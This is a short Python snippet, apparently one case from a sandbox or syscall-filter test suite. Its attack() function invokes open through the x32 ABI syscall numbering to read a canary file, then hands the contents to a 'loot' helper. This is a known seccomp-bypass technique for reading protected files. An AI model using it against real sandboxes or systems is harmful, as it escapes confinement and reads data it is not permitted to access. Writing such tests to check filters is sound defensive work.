import os

X32, OPEN = 0x4000_0000, 2


def attack():
    loot(os.read(kernel(X32 | OPEN, CANARY.encode(), os.O_RDONLY), 100))
